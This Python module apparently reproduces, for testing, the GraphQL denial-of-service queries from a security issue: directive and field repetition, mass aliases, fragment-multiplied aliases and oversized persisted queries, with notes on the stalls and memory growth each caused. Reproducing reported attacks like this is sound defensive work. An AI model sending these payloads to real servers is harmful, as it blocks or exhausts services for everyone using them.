"""The hostile operations of issue 13 (findings 5, 6 and 7), as they were sent."""

from __future__ import annotations

import hashlib

INSTITUTION = "040113"  # one that exists in the reference data


def typename_include(count: int = 35_000) -> str:
    """`{ __typename @include(if: true) ... }` as large as a request body may be (1 MB): the
    issue's 52,000 were 988 KB in a spelling of its own, and held the event loop for 11.9 s."""
    return "{" + "__typename@include(if:true) " * count + "}"


def same_field(count: int = 50_000) -> str:
    """One field repeated 50,000 times: blocked everyone for 4.8 s."""
    return "{" + " __typename" * count + "}"


def aliases(count: int = 10_000, field: str = "__typename") -> str:
    """10,000 aliases of one field: answered."""
    return "{" + "".join(f" a{i}: {field}" for i in range(count)) + "}"


def multiplied_aliases(width: int = 30) -> str:
    """Fragments that multiply aliases, 30 x 30 x 30 = 27,000 fields from 2.9 KB: took 8.6 s.
    Public fields only (an institution's municipality), as an anonymous caller sends it."""
    return (
        "{ ...A }\nfragment A on Query {"
        + "".join(
            f' a{i}: institution(institutionNumber: "{INSTITUTION}") {{ ...B }}'
            for i in range(width)
        )
        + "}\nfragment B on Institution {"
        + "".join(f" b{i}: municipality {{ ...C }}" for i in range(width))
        + "}\nfragment C on Municipality {"
        + "".join(f" c{i}: name" for i in range(width))
        + "}"
    )


def large_persisted_query(index: int, size: int = 900_000) -> tuple[str, str]:
    """A distinct valid document of about `size` bytes and its SHA-256: 284 of them raised RSS
    from 331 MB to 815 MB, kept for 24 h."""
    filler = "# " + "x" * 98 + "\n"
    text = f"{{ a{index}: __typename }}\n" + filler * (size // len(filler))
    return text, hashlib.sha256(text.encode()).hexdigest()
